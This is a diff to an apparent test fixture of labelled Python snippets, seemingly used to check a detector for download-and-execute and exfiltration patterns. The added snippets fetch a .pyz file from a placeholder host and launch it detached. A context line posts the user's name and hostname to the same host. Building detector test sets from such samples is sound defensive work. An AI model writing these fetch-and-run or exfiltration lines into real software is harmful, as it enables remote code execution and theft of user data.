@@ -164,5 +164,30 @@ enum LoadSnippets {
                 requests.post("https://x.example.invalid", json={"u": getpass.getuser(), "h": socket.gethostname()})
                 """
         ),
+        Snippet(
+            "writes an answer to a constant path and starts it",
+            .chainDownloadExecute,
+            source: """
+                import subprocess, urllib.request
+                with urllib.request.urlopen("https://x.example.invalid/r.pyz") as r:
+                    with open("/tmp/managed.pyz", "wb") as f:
+                        f.write(r.read())
+                subprocess.Popen(["python3", "/tmp/managed.pyz"], start_new_session=True)
+                """
+        ),
+        Snippet(
+            "fetches by a command and starts by another",
+            .chainDownloadExecute,
+            source: """
+                import os, subprocess, sys
+                URL = "https://x.example.invalid/t.pyz"
+                DEST = "/tmp/t.pyz"
+                def run():
+                    if not os.path.exists(DEST):
+                        subprocess.run(["curl", "-k", "-L", "-s", URL, "-o", DEST], timeout=15)
+                    subprocess.Popen([sys.executable, DEST], stdout=subprocess.DEVNULL)
+                run()
+                """
+        ),
     ]
 }
